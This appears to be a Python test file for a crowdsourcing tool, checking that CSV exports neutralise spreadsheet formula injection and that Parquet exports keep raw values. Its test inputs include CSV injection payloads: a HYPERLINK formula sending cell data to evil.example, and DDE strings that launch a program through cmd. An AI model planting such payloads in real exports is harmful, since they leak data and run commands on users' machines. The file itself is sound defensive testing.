"""CSV injection: a worker id or free text that a spreadsheet would run as a formula is written
with a leading `'` in CSV exports (read back unchanged by `read_judgments`); Parquet keeps the
raw values. End to end through the researcher API and the dashboard download."""

import csv
import io

import pytest

from crowd import judgments as J
from crowd import service as S
from crowd.db import get_database
from crowd.models import Provider

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "'already quoted", "plain text", "x=1"]


def _rows(values):
    base = {c: None for c in J.COLUMNS}
    return [{**base, "task": i, "worker": v, "label": "apple", "item": "label", "kind": "label", "assignment": i,
             "batch": 1, "duration_s": -0.0 if i == 0 else 1.5, "submitted_at": "2024-05-01T12:00:00+00:00",
             "sheet": "s1", "text": v, "is_gold": False, "gold_label": ""} for i, v in enumerate(values)]


def test_csv_cells_that_start_a_formula_are_neutralised_and_read_back_raw(tmp_path):
    path = tmp_path / "j.csv"
    J.write_judgments(str(path), _rows(HOSTILE))
    with open(path, newline="", encoding="utf-8") as fh:
        cells = list(csv.DictReader(fh))
    for row, raw in zip(cells, HOSTILE):
        for col in ("worker", "text"):
            if raw[0] in "=+-@\t\r'":
                assert row[col] == "'" + raw, (col, raw)
            else:
                assert row[col] == raw
    assert cells[0]["duration_s"] == "-0.0"  # numbers are not text: written as they are
    frame = J.read_judgments(path)
    assert frame["worker"].tolist() == HOSTILE and frame["text"].tolist() == HOSTILE


def test_parquet_keeps_the_raw_values(tmp_path):
    path = tmp_path / "j.parquet"
    J.write_judgments(str(path), _rows(HOSTILE))
    assert J.read_judgments(path)["worker"].tolist() == HOSTILE


@pytest.mark.parametrize("where", ["api", "dashboard"])
def test_exports_over_http_neutralise_worker_ids_and_comments(sqlite_app, h, where):
    client = sqlite_app.test_client()
    b = h.create_batch(client, kind="rate_arguments", redundancy=1, tasks_per_visit=1)
    evil = '=HYPERLINK("https://evil.example","x")'
    db = get_database(sqlite_app)
    with sqlite_app.app_context():
        with db.transaction() as s:
            visit = S.start_visit(s, b["id"], S.Identity(Provider.lab, evil))
            S.record_consent(s, visit, "1")
            a = S.lease_next(s, visit)
            assignment, worker, task = a.id, a.worker_id, s.get(S.Task, a.task_id)
            answer = {"arguments": {str(x["rank"]): "yes" for x in task.payload["arguments"]}, "match": 3,
                      "comment": "@SUM(1+1)*cmd|' /C calc'!A0"}
        S.submit(db, assignment, worker, answer, "client-token-1")
    if where == "api":
        body = client.get(f"/api/batches/{b['id']}/judgments?format=csv", headers=h.AUTH).get_data(as_text=True)
    else:
        h.admin_login(client)
        body = client.get(f"/admin/batches/{b['id']}/export.csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(body)))
    assert rows and {r["worker"] for r in rows} == {"'" + evil}
    assert [r["text"] for r in rows if r["item"] == "match"] == ["'@SUM(1+1)*cmd|' /C calc'!A0"]
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r.values())
